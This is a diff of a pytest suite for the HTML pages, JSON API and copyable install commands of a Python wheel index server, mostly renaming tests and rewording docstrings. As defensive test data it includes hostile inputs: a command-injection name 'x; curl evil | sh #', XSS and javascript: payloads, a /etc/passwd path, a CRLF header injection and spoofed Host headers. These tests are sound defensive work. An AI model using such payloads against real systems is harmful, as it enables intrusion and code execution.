@@ -1,4 +1,4 @@
-"""The pages for people: what they tell, and that nobody can make them tell something else."""
+"""HTML pages: contents, and attacks through the contents."""
 
 from __future__ import annotations
 
@@ -36,13 +36,13 @@ pytest.importorskip("jinja2", reason="needs the extra `server`")
 
 @pytest.fixture(scope="module")
 def index(tmp_path_factory: pytest.TempPathFactory) -> MemoryIndex:
-    """Give an index with a project that has variants."""
+    """Return an index with a project with variants."""
     return fast_fft(tmp_path_factory.mktemp("wheels"))
 
 
 @pytest.fixture(scope="module")
 def site(index: MemoryIndex) -> Site:
-    """Give its pages."""
+    """Return the pages of the index."""
     return Site(index, public_url="https://wheels.example.org/")
 
 
@@ -53,7 +53,7 @@ def ask(site: Site, target: str, method: str = "GET", **more: object) -> Respons
 
 
 def body(answer: Response) -> bytes:
-    """Return the bytes of an answer."""
+    """Return the bytes of a response."""
     return b"".join(answer.body)
 
 
@@ -82,7 +82,7 @@ HOSTILE = [
 
 
 def feed_of(answer: Response) -> tuple[str, list[tuple[str, str]]]:
-    """Return when a feed was updated, and the titles and links of its entries."""
+    """Return the time of a feed, and the titles and links of its entries."""
     feed = ET.fromstring(body(answer))
     space = {"atom": "http://www.w3.org/2005/Atom"}
     entries = []
@@ -94,31 +94,31 @@ def feed_of(answer: Response) -> tuple[str, list[tuple[str, str]]]:
 
 
 class TestPages:
-    """What each page tells."""
+    """Contents of each page."""
 
     def test_projects(self, site: Site) -> None:
-        """The front page lists every project with its newest release and variants."""
+        """The front page lists every project with its latest release and variants."""
         page = read(site, "/")
         summary = "Fast Fourier transforms on processors and GPUs"
         assert f"fast-fft {summary} 2.1 3 releases 4 variants 2026-10-02" in page.text
         assert "plainly 1.0 1 release" in page.text
         assert "./project/fast-fft/" in page.links
 
-    def test_projects_that_take_long(self, index: MemoryIndex) -> None:
-        """What cannot be found out soon is left out: there are the names at least."""
+    def test_slow_details(self, index: MemoryIndex) -> None:
+        """Details that take too long are left out; names are listed."""
         page = read(Site(index, patience=0), "/")
         assert "fast-fft plainly" in page.text
 
     def test_search(self, site: Site) -> None:
-        """A search finds parts of names, however they are spelled, and says so if there is none."""
+        """A search finds parts of names in any spelling."""
         assert "1 project for “FAST_f”" in read(site, "/?q=FAST_f").text
         assert "plainly" not in read(site, "/?q=fft").text
         nothing = read(site, "/?q=%3Cb%3E")
         assert "No project has that" in nothing.text
         assert "b" not in nothing.tags
 
-    def test_the_very_project_comes_first(self) -> None:
-        """Of what a search finds the exact name is first, then what begins so."""
+    def test_order_of_search_results(self) -> None:
+        """The exact name is first, then names that start with the text."""
         index = MemoryIndex()
         for name in ("a-torch", "torchvision", "torch"):
             index.add(name)
@@ -127,7 +127,7 @@ class TestPages:
         assert found == ["torch", "torchvision", "a-torch"]
 
     def test_project(self, site: Site) -> None:
-        """A project has its releases, newest first, with what was taken back."""
+        """A project lists its releases, newest first, with yanks."""
         page = read(site, "/project/fast-fft/")
         assert page.text.index("3.0rc1") < page.text.index("2.1 newest") < page.text.index("2.0 ")
         assert "3.0rc1 pre-release" in page.text
@@ -136,7 +136,7 @@ class TestPages:
         assert "https://example.org/docs" in page.links
 
     def test_release(self, site: Site) -> None:
-        """A release has a table of its variants with what each asks of a machine."""
+        """A release has a table of its variants with their requirements."""
         page = read(site, "/project/fast-fft/2.1/")
         assert "needs CUDA driver >= 12.8 and a GPU of compute capability 8.0 or 9.0" in page.text
         assert "nvidia :: sm_arch :: 80_real, 90_real" in page.text
@@ -147,7 +147,7 @@ class TestPages:
         )
 
     def test_hashes_and_attestations(self, index: MemoryIndex, site: Site) -> None:
-        """Each file has its hash; what is attested links to the provenance."""
+        """Each file has its hash, and attested files a link to the provenance."""
         page = read(site, "/project/fast-fft/2.1/")
         for file in index.pages["fast-fft"]:
             if "-2.1-" in file.filename and file.filename.endswith(".whl"):
@@ -157,7 +157,7 @@ class TestPages:
         assert f"../../../files/{proof}" in page.links
 
     def test_which_machines(self, site: Site) -> None:
-        """For each kind of machine it says which label is taken, with a link to the reasons."""
+        """Each kind of machine has its label, with a link to the reasons."""
         page = read(site, "/project/fast-fft/2.1/")
         assert "NVIDIA GPUs, CUDA 12.8" in page.text
         assert "which/?preset=cuda-12.8-sm90" in page.links
@@ -167,7 +167,7 @@ class TestPages:
         assert "nothing" in page.text[windows : windows + 60]
 
     def test_yanked_release(self, site: Site) -> None:
-        """A release that was taken back says so, and why."""
+        """A yanked release has the reason."""
         page = read(site, "/project/fast-fft/2.0/")
         assert "This release is yanked." in page.text
         assert "wrong on odd sizes" in page.text
@@ -179,7 +179,7 @@ class TestPages:
         ids=["for other machines", "source"],
     )
     def test_newest(self, tmp_path: Path, filename: str) -> None:
-        """A yanked release is not the newest, whatever its files are for."""
+        """A yanked release is not the latest, whatever its files."""
         index = MemoryIndex()
         index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
         index.add("some", File(filename, url_of(filename), yanked="broken"))
@@ -188,8 +188,8 @@ class TestPages:
         assert "2.0 yanked" in text
         assert "Every release is yanked" not in text
 
-    def test_nothing_but_yanked(self, tmp_path: Path) -> None:
-        """There is no command for a project whose releases are all yanked."""
+    def test_only_yanked_releases(self, tmp_path: Path) -> None:
+        """A project with only yanked releases has no install command."""
         index = MemoryIndex()
         index.add_wheel(build_wheel(tmp_path, "some", "1.0"), yanked="")
         text = read(Site(index), "/project/some/").text
@@ -198,13 +198,13 @@ class TestPages:
 
     @pytest.mark.parametrize("path", ["/project/fast-ftf/", "/project/fast-fft/9/", "/Fast_FFT"])
     def test_missing_project(self, site: Site, path: str) -> None:
-        """A page that is not there names projects with names like it, and offers the search."""
+        """A missing page suggests similar projects, and has the search form."""
         page = read(site, path, 404)
         assert any(link.endswith("/project/fast-fft/") for link in page.links)
         assert "form" in page.tags
 
     def test_feed(self, site: Site) -> None:
-        """Releases with a time are in the feed of a project, except yanked ones."""
+        """The feed of a project has its releases with a time, except yanked ones."""
         assert "feed.xml" in read(site, "/project/fast-fft/").links
         answer = ask(site, "/project/fast-fft/feed.xml")
         assert answer.headers["content-type"] == "application/atom+xml; charset=utf-8"
@@ -213,7 +213,7 @@ class TestPages:
         assert updated == "2026-10-02T08:00:00+00:00"
 
     def test_source_releases_are_in_the_feed(self) -> None:
-        """The feed of a project has its releases without wheels too."""
+        """The feed has releases without wheels too."""
         index = MemoryIndex()
         uploaded = "2026-10-02T08:00:00Z"
         index.add("some", File("some-1.0.tar.gz", url_of("some"), upload_time=uploaded))
@@ -251,18 +251,18 @@ class TestPages:
         assert "Recent uploads" not in read(site, "/?q=p").text
 
     def test_icon(self, site: Site) -> None:
-        """There is an icon, which is nobody else's."""
+        """There is an icon."""
         answer = ask(site, "/favicon.svg")
         assert answer.headers["content-type"].startswith("image/svg+xml")
 
     def test_plain_release(self, site: Site) -> None:
-        """A release without variants says that, and still says who gets it."""
+        """A release without variants says so, and lists its machines."""
         page = read(site, "/project/plainly/1.0/")
         assert "This release has no variants" in page.text
         assert "no hash in the index" not in page.text
 
-    def test_spellings_lead_to_one_address(self, site: Site) -> None:
-        """Another spelling of a project or version leads to the page by a relative link."""
+    def test_redirects_of_spellings(self, site: Site) -> None:
+        """Other spellings of a project or version are redirected by relative links."""
         assert ask(site, "/project/Fast_FFT/").headers["location"] == "../fast-fft/"
         assert ask(site, "/project/fast-fft").headers["location"] == "fast-fft/"
         assert ask(site, "/project/fast-fft/2.1.0/").headers["location"] == "../2.1/"
@@ -273,11 +273,11 @@ class TestPages:
         ["/nothing", "/project/nothing/", "/project/fast-fft/9/", "/project/fast-fft/x/", "//"],
     )
     def test_missing(self, site: Site, path: str) -> None:
-        """What is not there is a page that says so."""
+        """A missing page is a 404 page."""
         assert "There is no such page" in read(site, path, 404).text
 
-    def test_folder(self, tmp_path: Path) -> None:
-        """An index that cannot say when its pages change has pages too."""
+    def test_folder_index(self, tmp_path: Path) -> None:
+        """An index without change stamps has pages too."""
         build_wheel(tmp_path, "some", "1.0", label="v3", document=DOCUMENT)
         site = Site(FolderIndex(tmp_path))
         assert "needs x86-64-v3" in read(site, "/project/some/1.0/").text
@@ -286,10 +286,10 @@ class TestPages:
 
 
 class TestJson:
-    """The JSON API of the public registry."""
+    """The JSON API of PyPI."""
 
-    def test_project(self, site: Site) -> None:
-        """The newest release that is not yanked, and the files of all."""
+    def test_json_project(self, site: Site) -> None:
+        """A project has the latest release that is not yanked, and the files of all."""
         answer = ask(site, "/pypi/fast-fft/json")
         assert answer.headers["content-type"] == "application/json"
         found = json.loads(body(answer))
@@ -304,8 +304,8 @@ class TestJson:
         assert file["url"] == f"https://wheels.example.org/files/{file['filename']}"
         assert len(file["digests"]["sha256"]) == 64
 
-    def test_release(self, index: MemoryIndex) -> None:
-        """One release; its links are relative where nobody knows the address."""
+    def test_json_release(self, index: MemoryIndex) -> None:
+        """A release has relative links if the public URL is unknown."""
         found = json.loads(body(ask(Site(index), "/pypi/Fast_FFT/2.0.0/json")))
         assert found["info"]["version"] == "2.0"
         assert found["info"]["yanked_reason"] == "wrong on odd sizes"
@@ -313,22 +313,22 @@ class TestJson:
         assert found["urls"][0]["url"] == f"../../../files/{found['urls'][0]['filename']}"
 
     @pytest.mark.parametrize("path", ["nothing", "fast-fft/9", "fast-fft/x"])
-    def test_missing(self, site: Site, path: str) -> None:
-        """What is not there is a 404 in JSON."""
+    def test_json_missing(self, site: Site, path: str) -> None:
+        """A missing project is a 404 in JSON."""
         answer = ask(site, f"/pypi/{path}/json")
         assert answer.status == 404
         assert "message" in json.loads(body(answer))
 
-    def test_damaged(self, tmp_path: Path) -> None:
-        """A wheel that cannot be read costs its metadata."""
+    def test_json_damaged_wheel(self, tmp_path: Path) -> None:
+        """A damaged wheel has no metadata."""
         (tmp_path / "some-1.0-py3-none-any.whl").write_bytes(b"no archive")
         found = json.loads(body(ask(Site(FolderIndex(tmp_path)), "/pypi/some/json")))
         assert found["info"]["summary"] is None
         assert found["urls"][0]["filename"] == "some-1.0-py3-none-any.whl"
 
     @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-    def test_hostile(self, text: str) -> None:
-        """Whatever a page lists is text in JSON, and nothing that a browser shows."""
+    def test_json_hostile_values(self, text: str) -> None:
+        """Any listed value is text in JSON, with nosniff."""
         index = MemoryIndex()
         index.add("some", File("some-1.0.tar.gz", text, {"sha256": text}, yanked=text))
         answer = ask(Site(index), "/pypi/some/json")
@@ -339,16 +339,16 @@ class TestJson:
 class TestCommands:
     """Commands to copy."""
 
-    def test_with_the_public_url(self, site: Site) -> None:
-        """Where the address is known, commands can be used as they are."""
+    def test_public_url(self, site: Site) -> None:
+        """With a public URL commands can be copied."""
         page = read(site, "/project/fast-fft/2.1/")
         url = "https://wheels.example.org/simple/"
         assert f"wheelfit install --index-url {url} fast-fft==2.1" in page.text
         assert f"wheelfit run --index-url {url} -- pip install fast-fft==2.1" in page.text
         assert f"wheelfit run --index-url {url} -- uv pip install fast-fft==2.1" in page.text
 
-    def test_without_it(self, index: MemoryIndex) -> None:
-        """No header of a client is believed: the page says what to put in."""
+    def test_no_public_url(self, index: MemoryIndex) -> None:
+        """Without a public URL headers are not trusted, and commands have a placeholder."""
         site = Site(index)
         headers = {"host": "evil.example", "x-forwarded-host": "evil.example"}
         answer = ask(site, "/project/fast-fft/2.1/", headers=headers, origin="http://evil.example")
@@ -358,7 +358,7 @@ class TestCommands:
         assert "../../../simple/" in page.links
 
     def test_checked_host(self, index: MemoryIndex) -> None:
-        """Where the name of the server was checked, it is the address."""
+        """A verified host name is used in commands."""
         site = Site(index, trusts_host=True)
         headers = {"host": "wheels.example.org:8000"}
         page = Document(body(ask(site, "/project/plainly/1.0/", headers=headers)))
@@ -368,14 +368,14 @@ class TestCommands:
         assert "global.index-url https://wheels.example.org:8000/simple/" in page.text
 
     def test_plain_project(self, site: Site) -> None:
-        """Without variants pip comes first, as it is."""
+        """Without variants pip's command is first."""
         text = read(site, "/project/plainly/").text
         pip = "pip install --index-url https://wheels.example.org/simple/ plainly==1.0"
         assert text.index(pip) < text.index("wheelfit install")
         assert "wheelfit run" not in text
 
     def test_uploads(self, index: MemoryIndex) -> None:
-        """The front page says how to upload, if one can."""
+        """The front page explains uploads, if they are enabled."""
         site = Site(index, public_url="https://wheels.example.org", takes_uploads=True)
         page = read(site, "/")
         assert (
@@ -383,8 +383,8 @@ class TestCommands:
         )
         assert "twine" not in read(Site(index), "/").text
 
-    def test_nothing_ends_a_word(self) -> None:
-        """A name that is none is quoted, so that a copied command does nothing else."""
+    def test_quoting_of_names(self) -> None:
+        """Names in commands are quoted."""
         index = MemoryIndex()
         name = "x; curl evil | sh #"
         index.add(name, File("x-1.0-py3-none-any.whl", url_of("x")))
@@ -395,7 +395,7 @@ class TestCommands:
 
 
 def form(content: bytes, filename: str = "machine.toml", python: str = "") -> Request:
-    """Return the request of the form with a host file."""
+    """Return a form request with a host file."""
     parts = (
         b'--b\r\nContent-Disposition: form-data; name="content"; filename="%s"\r\n\r\n%s\r\n'
         b'--b\r\nContent-Disposition: form-data; name="python"\r\n\r\n%s\r\n--b--\r\n'
@@ -412,7 +412,7 @@ WHICH = "/project/fast-fft/2.1/which/"
 
 
 class TestWhich:
-    """The form that asks which one somebody would get."""
+    """The form that selects a label for a machine."""
 
     @pytest.mark.parametrize(
         ("preset", "label", "reason"),
@@ -424,7 +424,7 @@ class TestWhich:
         ],
     )
     def test_preset(self, site: Site, preset: str, label: str, reason: str) -> None:
-        """F-90: it says what a preset gets, and why nothing else, as `explain` does."""
+        """F-90: the label of a preset is shown, with the reasons for the others."""
         page = read(site, f"{WHICH}?preset={preset}")
         assert f"{preset} gets {label}" in page.text
         assert reason in page.text
@@ -445,7 +445,7 @@ class TestWhich:
         ],
     )
     def test_buttons(self, site: Site, query: str, name: str, label: str) -> None:
-        """A machine can be put together by buttons, which stay as they were chosen."""
+        """A machine can be composed by buttons, which keep their state."""
         content = body(ask(site, f"{WHICH}?{query}"))
         assert f"{name} gets {label}" in Document(content).text
         field, _, value = query.partition("&")[0].partition("=")
@@ -460,28 +460,28 @@ class TestWhich:
             ("device=x-&version=-", "x-"),
         ],
     )
-    def test_buttons_that_contradict(self, site: Site, query: str, says: str) -> None:
-        """What no machine has is said, and the buttons are still there."""
+    def test_contradictory_buttons(self, site: Site, query: str, says: str) -> None:
+        """A contradictory machine is an error, and the buttons remain."""
         page = Document(body(ask(site, f"{WHICH}?{query}")))
         assert says in page.text
         assert "System" in page.text
         assert "script" not in page.tags
 
     def test_buttons_on_the_page_of_a_project(self, site: Site) -> None:
-        """They ask about its newest release; a form without scripts leads to the answer."""
+        """The buttons of a project are for its latest release."""
         content = body(ask(site, "/project/fast-fft/")).decode()
         assert '<form class="picker" action="2.1/which/" method="get">' in content
         page = read(site, "/project/fast-fft/2.1/which/?device=cuda-sm90&version=cuda-12.8")
         assert "cuda-12.8-sm90 gets cu128" in page.text
 
-    def test_nothing_fits(self, site: Site) -> None:
-        """Where nothing fits every wheel has its reason."""
+    def test_no_compatible_wheel(self, site: Site) -> None:
+        """Without a compatible wheel every wheel has its reason."""
         page = read(site, f"{WHICH}?preset=windows-x86_64")
         assert "windows-x86_64 gets nothing" in page.text
         assert "built for Linux x86_64, this is Windows x86_64" in page.text
 
     def test_python(self, site: Site) -> None:
-        """The Python that was chosen counts; without one it is the newest with a wheel."""
+        """The default Python is the newest with a wheel."""
         assert "cp312-cp312" in read(site, f"{WHICH}?preset=linux-x86_64&python=3.12").text
         page = read(site, f"{WHICH}?preset=linux-x86_64")
         assert "Python 3.13 is assumed, since none was named" in page.text
@@ -489,7 +489,7 @@ class TestWhich:
         assert "gets nothing" in page.text
 
     def test_host_file(self, site: Site) -> None:
-        """An uploaded host file gets the same answer as the machine that it describes."""
+        """An uploaded host file gives the same label as its machine."""
         file, _ = host_of_preset(compose(["cuda-12.8-sm90"]))
         answer = site(form(host_text(file).encode(), python="3.12"))
         page = Document(body(answer))
@@ -507,8 +507,8 @@ class TestWhich:
             (b"x" * (256 << 10) + b"x", "has more than 262144 bytes"),
         ],
     )
-    def test_bad_host_files(self, site: Site, content: bytes, says: str) -> None:
-        """What is not a host file is told so, and nothing of it becomes markup."""
+    def test_invalid_host_files(self, site: Site, content: bytes, says: str) -> None:
+        """An invalid host file is an error without markup of the file."""
         answer = site(form(content))
         page = Document(body(answer))
         assert (answer.status, page.faults) == (400, [])
@@ -516,24 +516,24 @@ class TestWhich:
         assert "b" not in page.tags
 
     def test_hostile_file_name(self, site: Site) -> None:
-        """The name of an uploaded file is shown as text, without its folders."""
+        """The name of an uploaded file is shown as text, without folders."""
         answer = site(form(b"x", filename="../../<img src=x onerror=alert(1)>"))
         page = Document(body(answer))
         assert page.faults == []
         assert "img" not in page.tags
         assert "../../<img" not in page.text
 
-    def test_what_is_no_form(self, site: Site) -> None:
-        """A body of another kind, or one that is cut off, is refused; nothing is read for ever."""
+    def test_invalid_forms(self, site: Site) -> None:
+        """Other content types and truncated or endless bodies are refused."""
         request = Request("POST", WHICH, {"content-type": "text/plain"}, body=io.BytesIO(b"x"))
         assert site(request).status == 400
-        endless = Endless()
+        endless = EndlessBody()
         headers = {"content-type": "multipart/form-data; boundary=b"}
         assert site(Request("POST", WHICH, headers, body=endless)).status == 400
         assert endless.given < 4 << 20
 
-    def test_forms_leave_threads_for_others(self, site: Site) -> None:
-        """Anybody may send a form slowly, but only a few are read at once; later ones are."""
+    def test_concurrent_forms(self, site: Site) -> None:
+        """Only a few forms are read at once; others get 503."""
         statuses: list[int] = []
 
         def ask() -> int:
@@ -566,28 +566,28 @@ class TestWhich:
             ("preset=/etc/passwd", "is not a preset"),
         ],
     )
-    def test_bad_presets(self, site: Site, query: str, says: str) -> None:
-        """What is not a preset is told so; no file of the server is ever looked at."""
+    def test_invalid_presets(self, site: Site, query: str, says: str) -> None:
+        """An invalid preset is an error, and no file of the server is read."""
         page = read(site, f"{WHICH}?{query}", 400)
         assert says in page.text
         assert page.text.count("<script>") == page.text.count("'<script>'")
 
     def test_long_queries(self, site: Site) -> None:
-        """A query that is too long, or has too many fields, is refused."""
+        """Long queries and those with many fields are refused."""
         assert "too long" in read(site, f"{WHICH}?preset={'x' * 5000}", 400).text
         fields = "&".join("q=1" for _ in range(30))
         assert "too many fields" in read(site, f"/?{fields}", 400).text
 
-    def test_the_form_alone(self, site: Site) -> None:
-        """Without a question the page has the form, and keeps what was typed afterwards."""
+    def test_empty_form(self, site: Site) -> None:
+        """Without a query the page has the form; afterwards it keeps the input."""
         assert "Ask about a machine" in read(site, WHICH).text
         content = body(ask(site, f"{WHICH}?preset=cuda-12.8-sm90&python=3.12"))
         assert b'value="cuda-12.8-sm90"' in content
         assert b"<option selected>3.12</option>" in content
 
 
-class Endless:
-    """Give bytes as long as somebody reads."""
+class EndlessBody:
+    """A body without an end."""
 
     def __init__(self) -> None:
         self.given = 0
@@ -648,14 +648,14 @@ Use
 
 
 class TestReadme:
-    """Descriptions that are Markdown or reStructuredText."""
+    """Markdown and reStructuredText descriptions."""
 
     @pytest.mark.parametrize(
         ("kind", "text"),
         [("text/markdown; charset=UTF-8; variant=GFM", MARKDOWN), ("text/x-rst", RST), ("", RST)],
     )
     def test_rendered(self, tmp_path: Path, kind: str, text: str) -> None:
-        """Headings, links and code are such, below the headings of the page."""
+        """Headings, links and code are rendered, below the headings of the page."""
         content, page = self.shown(tmp_path, kind, text)
         assert re.search(rb"<h3[^>]*>Fast<", content)
         assert re.search(rb"<h4[^>]*>Use<", content)
@@ -666,7 +666,7 @@ class TestReadme:
         assert "##" not in page.text
 
     def test_links_and_images(self, tmp_path: Path) -> None:
-        """Anchors lead within the text, files of a repository nowhere; an image is its words."""
+        """Anchors work, relative links are removed, and images become their text."""
         content, page = self.shown(tmp_path, "text/markdown", MARKDOWN)
         (anchor,) = [link for link in page.links if link.endswith("use")]
         assert f'id="{anchor.removeprefix("#")}"'.encode() in content
@@ -675,14 +675,14 @@ class TestReadme:
         assert b"<table>" in content
 
     @pytest.mark.parametrize("kind", ["text/plain", "text/markdown; variant=Other", "text/html"])
-    def test_text(self, tmp_path: Path, kind: str) -> None:
-        """Everything else is shown as it was written."""
+    def test_other_types(self, tmp_path: Path, kind: str) -> None:
+        """Other content types are shown as text."""
         _, page = self.shown(tmp_path, kind, MARKDOWN)
         assert "# Fast" in page.text
 
     @pytest.mark.parametrize("text", [">" * 60_000, "<div>" * 12_000, "T\n=\n\n" * 20_000])
-    def test_costly(self, tmp_path: Path, text: str) -> None:
-        """What would take seconds is shown as text."""
+    def test_costly_descriptions(self, tmp_path: Path, text: str) -> None:
+        """Descriptions that take seconds to render are shown as text."""
         content, _ = self.shown(tmp_path, "text/markdown", text)
         assert b'<pre class="prose"' in content
 
@@ -697,12 +697,12 @@ class TestReadme:
         return content, Document(content)
 
 
-class TestHostile:
-    """Publishers who mean harm."""
+class TestMaliciousContent:
+    """Malicious contents of an index."""
 
     @pytest.mark.parametrize("name", HOSTILE, ids=range(len(HOSTILE)))
     def test_names(self, name: str) -> None:
-        """A name of a project is text wherever it stands, and signs that turn it are seen."""
+        """Project names are escaped, and bidirectional controls are visible."""
         index = MemoryIndex()
         index.add(name, File("some-1.0-py3-none-any.whl", url_of("some")))
         page = read(Site(index), "/")
@@ -711,8 +711,8 @@ class TestHostile:
         assert "49" not in page.text
 
     @pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
-    def test_everything_a_page_lists(self, text: str) -> None:
-        """File names, URLs, versions of Python, reasons and hashes are text."""
+    def test_listed_values(self, text: str) -> None:
+        """File names, URLs, Python versions, reasons and hashes are escaped."""
         index = MemoryIndex()
         index.add(
             "some",
@@ -736,7 +736,7 @@ class TestHostile:
 
     @pytest.mark.parametrize("text", [one for one in HOSTILE if "\udcff" not in one], ids=len)
     def test_metadata(self, tmp_path: Path, text: str) -> None:
-        """Summary, author, licence, links, needs and description are text."""
+        """Summary, author, licence, links, dependencies and description are escaped."""
         line = text.replace("\r\n", " ").replace("\x00", "")[:5000]
         headers = [("Summary", line), ("Author", line), ("License", line), ("Home-page", line)]
         headers += [("Project-URL", f"{line.replace(',', ' ')}, {line}"), ("Requires-Dist", line)]
@@ -751,7 +751,7 @@ class TestHostile:
     @pytest.mark.parametrize("kind", ["text/markdown", "text/x-rst", 'x;y="z'])
     @pytest.mark.parametrize("text", READMES + HOSTILE[:9], ids=range(len(READMES) + 9))
     def test_readme(self, tmp_path: Path, text: str, kind: str) -> None:
-        """A README of any type runs nothing, loads nothing, and leads to web servers only."""
+        """A README runs no script, loads nothing, and links only to web servers."""
         index = MemoryIndex()
         headers = [("Description-Content-Type", kind)] if kind else []
         text = text.replace("\r\n", "\n").replace("\x00", "")
@@ -769,7 +769,7 @@ class TestHostile:
         assert "\u202e" not in page.text
 
     def test_links(self, tmp_path: Path) -> None:
-        """Only web addresses become links, and those tell nobody where one comes from."""
+        """Only web addresses become links, without a referrer."""
         urls = {
             "good": "https://example.org/x",
             "script": "javascript:alert(1)",
@@ -795,16 +795,16 @@ class TestHostile:
         """Usual addresses are links."""
         assert is_web_address(url)
 
-    def test_metadata_that_is_long(self, tmp_path: Path) -> None:
-        """Requirements of megabytes are cut: pages, and what is kept for them, have their size."""
+    def test_long_metadata(self, tmp_path: Path) -> None:
+        """Long metadata is truncated."""
         long = [f"other; python_version in '{'9' * 100_000}'"] * 100
         build_wheel(tmp_path, "bad", "1.0", requires=long)
         text = read(Site(FolderIndex(tmp_path)), "/project/bad/1.0/").text
         assert "other; python_version in" in text
         assert len(text) < 1_000_000
 
-    def test_metadata_that_nests(self, tmp_path: Path) -> None:
-        """METADATA made of thousands of messages costs its description and nothing else."""
+    def test_nested_metadata(self, tmp_path: Path) -> None:
+        """METADATA with thousands of nested messages is unreadable, and nothing else fails."""
         index = MemoryIndex()
         file = index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
         from wheelfit.sources.repository import content_of
@@ -816,12 +816,12 @@ class TestHostile:
         ).text
 
     def test_headers_of_redirects(self, site: Site) -> None:
-        """No line end of a path gets into a header."""
+        """Line breaks in a path do not get into headers."""
         answer = ask(site, "/project/A%0d%0aSet-Cookie:x/")
         assert all(value.isprintable() for value in answer.headers.values())
 
-    def test_signs_that_are_not_seen(self) -> None:
-        """What turns or hides text is written as its number; what people write stays."""
+    def test_invisible_characters(self) -> None:
+        """Invisible and bidirectional characters are shown by their code point."""
         assert visible("a\u202eb\u200bc\n") == "a⟨U+202E⟩b⟨U+200B⟩c⟨U+000A⟩"
         assert (
             visible("Grüße, 你好, \N{NO-BREAK SPACE}שלום") == "Grüße, 你好, \N{NO-BREAK SPACE}שלום"
@@ -833,8 +833,8 @@ OTHER = release_document(
 )
 
 
-class TestBroken:
-    """What is wrong with an index, told instead of a failure."""
+class TestFaults:
+    """Faults of an index, which are shown on the pages."""
 
     @pytest.mark.parametrize(
         ("document", "says"),
@@ -844,8 +844,8 @@ class TestBroken:
             (json.dumps(OTHER).encode(), "v3: ignored, no metadata can be read"),
         ],
     )
-    def test_documents(self, tmp_path: Path, document: bytes, says: str) -> None:
-        """F-136: a document that cannot be used says why, and plain wheels stay."""
+    def test_invalid_documents(self, tmp_path: Path, document: bytes, says: str) -> None:
+        """F-136: an invalid document is shown with the reason, and plain wheels are usable."""
         index = MemoryIndex()
         index.add_wheel(build_wheel(tmp_path, "some", "1.0"))
         name = "some-1.0-py3-none-any-v3.whl"
@@ -858,8 +858,8 @@ class TestBroken:
         answer = read(Site(index), "/project/some/1.0/which/?preset=linux-x86_64")
         assert "linux-x86_64 gets the plain wheel" in answer.text
 
-    def test_files_that_are_gone(self, tmp_path: Path) -> None:
-        """A wheel that is listed and not there, or elsewhere, still has its row."""
+    def test_missing_files(self, tmp_path: Path) -> None:
+        """A missing or external wheel is still listed."""
         index = MemoryIndex()
         for label in ("v3", None):
             index.add_wheel(build_wheel(tmp_path, "some", "1.0", label=label, document=DOCUMENT))
@@ -875,8 +875,8 @@ class TestBroken:
         assert "cpu-x86_64-v3 gets v3" in answer.text
         assert "what the metadata of the chosen wheel says does not count" in answer.text
 
-    def test_no_wheel_is_read(self, tmp_path: Path) -> None:
-        """F-77: where wheels may lie elsewhere, none is opened for what would stand beside it."""
+    def test_no_wheel_is_opened(self, tmp_path: Path) -> None:
+        """F-77: remote wheels are not opened for their metadata."""
         index = MemoryIndex()
         for label in ("v3", None):
             file = index.add_wheel(
@@ -895,16 +895,16 @@ class TestBroken:
         answer = read(site, "/project/some/1.0/which/?preset=linux-x86_64")
         assert "linux-x86_64 gets the plain wheel" in answer.text
 
-    def test_wheels_that_are_none(self, tmp_path: Path) -> None:
-        """A file that is not an archive costs its own facts."""
+    def test_invalid_wheels(self, tmp_path: Path) -> None:
+        """An invalid wheel has no details."""
         (tmp_path / "some-1.0-py3-none-any-v3.whl").write_bytes(b"no archive")
         site = Site(FolderIndex(tmp_path))
         assert "Something is wrong" in read(site, "/project/some/1.0/").text
         assert "gets nothing" in read(site, "/project/some/1.0/which/?preset=linux-x86_64").text
 
     @pytest.mark.parametrize("error", [StorageUnavailable("no database"), Unreachable("no answer")])
-    def test_an_index_that_cannot_be_asked(self, error: Exception) -> None:
-        """Where the index cannot be read the page says so with 503, and the next try works."""
+    def test_unavailable_index(self, error: Exception) -> None:
+        """An unavailable index gives 503, and the next request works."""
         index = MemoryIndex()
         index.add("some")
         site = Site(index)
@@ -915,11 +915,11 @@ class TestBroken:
         assert "some" in read(site, "/").text
 
 
-class TestMany:
-    """Releases and variants by the thousand."""
+class TestManyEntries:
+    """Thousands of releases and variants."""
 
     def test_variants(self) -> None:
-        """Thousands of variants are shown in parts, and a question is answered all the same."""
+        """Thousands of variants are paginated."""
         site = Site(many_variants(3_000))
         page = read(site, "/project/many/1.0/")
         assert "1 to 100 of 3000 builds" in page.text
@@ -933,7 +933,7 @@ class TestMany:
         assert "?preset=cuda-12.8-sm90&page=4#verdicts" in answer.links
 
     def test_releases(self) -> None:
-        """So are releases."""
+        """Thousands of releases are paginated."""
         index = MemoryIndex(stamped=True)
         names = (f"some-{number}-py3-none-any.whl" for number in range(2_000))
         index.add("some", *(File(name, url_of(name)) for name in names))
@@ -942,12 +942,12 @@ class TestMany:
         assert "1800" in page.text
 
     @pytest.mark.parametrize("number", ["0", "-1", "999999999999", "x", "²", "1e3", ""])
-    def test_odd_pages(self, site: Site, number: str) -> None:
-        """A page that is none is the nearest there is."""
+    def test_invalid_page_numbers(self, site: Site, number: str) -> None:
+        """An invalid page number gives the nearest page."""
         assert "fast-fft" in read(site, f"/?page={number}").text
 
-    def test_computed_once(self, index: MemoryIndex) -> None:
-        """As long as the stamp of a project is equal, its page is not read again."""
+    def test_cached_pages(self, index: MemoryIndex) -> None:
+        """A page is not computed again while the project's stamp is unchanged."""
         site = Site(index)
         first = body(ask(site, "/project/fast-fft/2.1/"))
         pages, index.pages = index.pages, dict.fromkeys(index.pages, ())
@@ -959,14 +959,14 @@ class TestMany:
             index.pages, index.stamp = pages, stamp  # type: ignore[method-assign]
 
 
-class TestAnswers:
-    """What surrounds the pages."""
+class TestResponses:
+    """Headers and methods."""
 
     @pytest.mark.parametrize(
         "target", ["/", "/site.css", "/nothing", "/project/x", "/project/fast-fft/", f"{WHICH}?a=b"]
     )
-    def test_headers(self, site: Site, target: str) -> None:
-        """Every answer forbids scripts, frames and guesses."""
+    def test_security_headers(self, site: Site, target: str) -> None:
+        """Every response forbids scripts, frames and content sniffing."""
         headers = ask(site, target).headers
         policy = headers["content-security-policy"]
         assert policy.startswith(
@@ -977,27 +977,27 @@ class TestAnswers:
         assert headers["referrer-policy"] == "same-origin"
 
     def test_unchanged_pages(self, site: Site) -> None:
-        """A page that a browser has is not sent again."""
+        """An unchanged page gives 304."""
